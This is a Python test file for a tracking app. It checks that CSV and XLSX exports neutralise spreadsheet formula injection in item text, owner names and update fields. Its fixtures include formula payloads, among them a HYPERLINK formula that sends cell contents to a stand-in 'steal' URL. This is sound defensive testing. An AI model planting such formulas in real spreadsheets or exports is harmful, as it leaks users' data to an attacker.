"""No exported file runs a formula: hostile text typed into the service, or imported into
it, comes out of every CSV and XLSX export as plain text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.integration.progress_helpers import open_term, own
from tracker.cli_attendance import METRIC_FIELDS, _write_csv
from tracker.data.plan import get_item
from tracker.data.progress import UpdateContent, save_update
from tracker.data.transaction import unit_of_work
from tracker.domain.spreadsheet_text import FORMULA_STARTS, unguard_formula

HYPERLINK = '=HYPERLINK("https://example.org/steal?d="&A1,"Click for details")'
HOSTILE = (HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_cell_would_run(rows: list[list[str]]) -> None:
    """Every cell a spreadsheet program would take for a formula has been neutralised."""
    running = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not running


def assert_no_formula_cells(content: bytes) -> list[str]:
    """No cell of the workbook is a formula; returns the text of every cell."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.fixture
def hostile_plan(app, people):
    """An item, its lead owner and its draft update, all in words that look like formulas."""
    from tracker.extensions import db

    people["other_owner"].name = "=1+1"
    item = get_item(slug="P1-001")
    item.text = HYPERLINK
    db.session.commit()
    own(people, "P1-001", lead="other_owner", contributors=["owner"])
    people["owner"].name = "@SUM(A1)"
    db.session.commit()
    term = open_term()
    with unit_of_work():
        save_update(
            item=item,
            term=term,
            user=people["other_owner"],
            content=UpdateContent(
                status="amber",
                progress=HOSTILE[1],
                evidence=HOSTILE[2],
                impact=HOSTILE[3],
                next_steps=HOSTILE[4],
                mitigation=HOSTILE[5],
            ),
            expected_version=0,
            submit=False,
        )
    return item


def test_the_chase_list_csv_runs_no_formula(hostile_plan, manager_client):
    response = manager_client.get("/manage/progress/2024-25-autumn/chase-list.csv")
    assert response.status_code == 200
    rows = csv_rows(response.get_data(as_text=True))
    assert_no_cell_would_run(rows)
    [row] = [row for row in rows if row[0] == "P1/001"]
    assert "'" + HYPERLINK in row
    assert "'=1+1" in row
    assert "'@SUM(A1)" in row


def test_the_bulk_sheet_csv_runs_no_formula_and_reads_back_as_typed(hostile_plan, manager_client):
    response = manager_client.get("/bulk/2024-25-autumn/updates.csv")
    assert response.status_code == 200
    rows = csv_rows(response.get_data(as_text=True))
    assert_no_cell_would_run(rows)
    [row] = [row for row in rows if row[0] == "P1/001"]
    texts = [unguard_formula(cell) for cell in row]
    assert HYPERLINK in texts and "=1+1" in texts
    # Progress to mitigation, as the owner typed them; the version is a plain number.
    assert texts[6:11] == ["+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    assert row[-1] == "1"


def test_the_bulk_sheet_xlsx_has_no_formula_cell_and_keeps_numbers(hostile_plan, manager_client):
    response = manager_client.get("/bulk/2024-25-autumn/updates.xlsx")
    assert response.status_code == 200
    texts = assert_no_formula_cells(response.data)
    for text in (HYPERLINK, "=1+1", *HOSTILE[1:4]):
        assert text in texts
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Updates"]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "P1/001"]
    assert (row[-1].data_type, row[-1].value) == ("n", 1)
    assert row[7].value == "-2" and row[7].data_type == "s"


def test_the_metrics_csv_runs_no_formula_and_keeps_numbers(capsys):
    # The importers only let codes and URNs into the grouped columns; the writer guards
    # whatever text reaches it all the same.
    row = {"group": {"locality": HYPERLINK}} | dict.fromkeys(METRIC_FIELDS, -2.5)
    _write_csv({"year": "2022/23", "period": "-term", "rows": [row]}, ("locality",))
    rows = csv_rows(capsys.readouterr().out)
    assert_no_cell_would_run([row[:3] for row in rows])
    assert rows[1][:3] == ["2022/23", "'-term", "'" + HYPERLINK]
    # Figures are numbers, negative or not, and are written as such.
    assert set(rows[1][3:]) == {"-2.5"}


def test_the_attendance_figures_csv_runs_no_formula_and_keeps_numbers():
    from tracker.views.data.figures import CSV_COLUMNS, figures_csv

    row = {"group": {"locality": HYPERLINK}} | {figure: -2.5 for _, figure, _ in CSV_COLUMNS}
    rows = csv_rows(figures_csv([row], by=("locality",), labels={"locality": "Locality"}))
    assert_no_cell_would_run([row[:1] for row in rows])
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][1] == "-2.5" and rows[1][2] == "-2.50"
